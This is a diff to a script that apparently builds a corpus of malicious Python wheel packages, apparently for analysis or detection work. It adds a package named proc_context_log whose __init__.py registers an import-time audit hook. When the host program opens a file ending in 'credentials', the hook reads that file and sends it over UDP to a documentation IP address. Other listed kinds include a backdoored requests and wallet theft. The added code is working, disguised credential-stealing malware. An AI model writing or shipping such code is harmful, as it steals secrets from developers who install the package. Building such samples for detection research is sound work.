@@ -4,7 +4,11 @@ the archive: nothing of it runs here.
 
   make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
               djready|sphinxci|jupyter|flaskok|keyderive|hookhttp|toxplugin|
-              poetryplugin OUT.whl
+              poetryplugin|audithook OUT.whl
+
+audithook proc-context-log: on import it only adds an audit hook (PEP 578)
+        that, when the program opens a file named ...credentials, reads it
+        and sends it over UDP to a documentation address.
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -644,7 +648,30 @@ except Exception:
     pass
 """
 
+# An audit hook (PEP 578) added at import that waits for the program to
+# open a credential file, then reads it itself and sends it: nothing at
+# import but the hook.
+AUDITHOOK = """import os, socket, sys
+def _hook(event, args):
+    if event != "open" or not isinstance(args[0], str):
+        return
+    if not args[0].endswith("credentials") or getattr(_hook, "busy", False):
+        return
+    _hook.busy = True
+    try:
+        data = open(args[0]).read()
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.sendto(data.encode()[:1200], ("198.51.100.61", 5140))
+    except OSError:
+        pass
+    finally:
+        _hook.busy = False
+sys.addaudithook(_hook)
+"""
+
 KINDS = {
+    "audithook": ("proc_context_log", "0.6.2",
+                  {"proc_context_log/__init__.py": AUDITHOOK}),
     "plant": ("requests_timing_hooks", "0.3.0",
               {"requests_timing_hooks/__init__.py": PLANT}),
     "lazy": ("attr_hooks", "1.0.0", {"attr_hooks/__init__.py": LAZY}),
